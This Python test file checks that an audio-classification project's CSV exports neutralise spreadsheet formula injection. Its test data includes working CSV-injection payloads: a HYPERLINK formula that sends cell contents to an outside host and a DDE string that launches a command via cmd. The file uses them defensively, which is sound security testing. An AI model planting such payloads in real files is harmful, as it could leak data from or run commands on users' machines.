"""Files that spreadsheets open: whatever a label, a file or a data set is called, no cell is a formula."""

from __future__ import annotations

import ast
import csv
import io
import math
from pathlib import Path

import pytest
import torch
from hypothesis import example, given
from hypothesis import strategies as st

from adastride import audio
from adastride.comparison import core as comparison
from adastride.comparison.features import mel_features
from adastride.comparison.settings import ComparisonSettings
from adastride.inspection import export, trace
from adastride.models import Classifier, ClassifierConfig
from adastride.results import report
from adastride.sweep import core as sweep
from adastride.sweep.scores import Score, scores_csv
from adastride.tables import csv_text, own_text
from adastride.tasks.classification import Classification
from adastride.training import grid

ROOT = Path(__file__).resolve().parents[1]
EVIL = ['=HYPERLINK("http://example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "-", "+"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def harmless(text: str) -> None:
    for cell in cells(text):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")):
            float(cell)  # numbers alone


@pytest.mark.parametrize("evil", EVIL)
def test_a_text_that_looks_like_a_formula_is_a_text(evil: str):
    assert cells(csv_text([[evil]])) == ["'" + evil]


@pytest.mark.parametrize("number", [0, -1, 1.5, -2.5e-7, "-3.5", "+0.2", "-1e-05", "-inf", ""])
def test_a_number_stays_a_number(number: object):
    assert cells(csv_text([[number, "x"]])) == [str(number), "x"]


@example(["NAN"])
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=6) | st.sampled_from(EVIL), min_size=1, max_size=4))
def test_no_cell_is_a_formula_and_all_come_back(texts: list[str]):
    text = csv_text([[*texts, "end"]])
    harmless(text)
    for before, after in zip(texts, cells(text), strict=False):
        try:
            number = float(before)
            assert float(own_text(after)) == number or math.isnan(number)
        except ValueError:
            assert own_text(after) == before or before.startswith("'")


def test_every_export(tmp_path: Path):
    """Labels, names of checkpoints, of folds and of tasks that people have written."""
    torch.manual_seed(0)
    network = Classifier(ClassifierConfig(tuple(EVIL), width=4)).eval()
    network.name = EVIL[0]
    clip = audio.from_samples(torch.rand(16_000).numpy() - 0.5, 16_000)
    metric = Classification.metrics[0]
    score = Score(EVIL[1], sweep.Setting(1.0, 1.0), 1.0, metric, 50, 50, 100, 0.4)
    swept = list(sweep.sweep_clip(network, clip, sweep.points((1.0, 2.0), ())))
    grid.append_row(tmp_path / "results.csv", {"run": "a", "task": EVIL[0], "fold": EVIL[3]})
    grid.append_row(tmp_path / "results.csv", {"run": "b", "task": EVIL[2], "fold": "-1"})
    written = (tmp_path / "results.csv").read_text(encoding="utf-8")
    exports = {
        "strides": export.to_csv(trace(network, clip)), "sweep": sweep.clip_csv(swept), "scores": scores_csv([score]),
        "comparison": comparison.to_csv(comparison.compare(mel_features(clip), ComparisonSettings(("adastride", "max-pool"), scores="energy"), settled=True)),
        "table": report.to_csv([{EVIL[0]: EVIL[1], "change": "+1.2"}]), "results": written,
    }
    for text in exports.values():
        harmless(text)
    assert "'" + swept[0].top in cells(exports["sweep"])
    assert "'" + EVIL[1] in cells(exports["scores"])
    assert {"'" + EVIL[0], "'" + EVIL[1], "+1.2"} <= set(cells(exports["table"]))
    assert grid._read(tmp_path / "results.csv")[1][0]["task"] == EVIL[0]


def test_no_other_place_writes_csv():
    """Whoever writes one goes through `csv_text`."""
    writers = set()
    for path in (*ROOT.glob("adastride/**/*.py"), *ROOT.glob("pages/*.py"), ROOT / "app.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv") and ast.unparse(node.value) in ("csv", "frame", "pandas"):
                writers.add(path.name)
    assert writers == {"tables.py"}
